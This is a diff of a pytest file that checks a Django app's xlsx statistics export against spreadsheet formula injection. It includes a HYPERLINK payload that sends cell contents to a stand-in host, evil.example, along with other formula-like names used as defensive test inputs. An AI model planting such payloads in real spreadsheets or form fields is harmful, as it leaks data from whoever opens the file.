@@ -4,40 +4,39 @@ import io
 import zipfile
 
 import pytest
-from openpyxl import load_workbook
 
 from core.sheets import csv_field
+from tests.client import ApiClient
 from tests.factories import BureauFactory, CommissionerFactory
+from tests.stats.test_export import _loaded, shared_rows  # noqa: F401  (a module-scoped fixture)
 
 pytestmark = pytest.mark.django_db
-
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
+FORMULA_LIKE = [HYPERLINK, "=1+1", "+1+1", "@SUM(1,1)", "-1+1"]
 
 
-def _export(api) -> bytes:
-    response = api.as_user(BureauFactory()).get("/stats/export.xlsx", **{"from": "2024-01-01", "to": "2024-12-31"})
+@pytest.fixture(scope="module")
+def exported(shared_rows) -> bytes:  # noqa: F811
+    """One workbook with a commissioner for each formula-like name, all in 右江区."""
+    for name in FORMULA_LIKE:
+        CommissionerFactory(name=name, area_id="451002")
+    response = ApiClient().as_user(BureauFactory()).get("/stats/export.xlsx", **{"from": "2024-01-01",
+                                                                                 "to": "2024-12-31"})
     assert response.status_code == 200
     return response.content
 
 
-def _cells_named(content: bytes, text: str) -> list:
-    wb = load_workbook(io.BytesIO(content))
-    return [cell for ws in wb for row in ws.iter_rows() for cell in row if cell.value == text]
-
-
-@pytest.mark.parametrize("name", [HYPERLINK, "=1+1", "+1+1", "@SUM(1,1)", "-1+1"])
-def test_a_name_that_looks_like_a_formula_is_a_text_cell_exactly_as_typed(api, name):
-    CommissionerFactory(name=name, area_id="451002")
-    cells = _cells_named(_export(api), name)
+@pytest.mark.parametrize("name", FORMULA_LIKE)
+def test_a_name_that_looks_like_a_formula_is_a_text_cell_exactly_as_typed(exported, name):
+    cells = [cell for ws in _loaded(exported) for row in ws.iter_rows() for cell in row if cell.value == name]
     assert [(cell.data_type, cell.value) for cell in cells] == [("s", name)]
 
 
-def test_the_workbook_holds_no_formula_at_all(api):
-    CommissionerFactory(name="=1+1", area_id="451002")
-    CommissionerFactory(name=HYPERLINK, area_id="451003")
-    with zipfile.ZipFile(io.BytesIO(_export(api))) as archive:
+def test_the_workbook_holds_no_formula_at_all(exported):
+    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
         sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
-    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
+    assert len(sheets) == 6
+    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
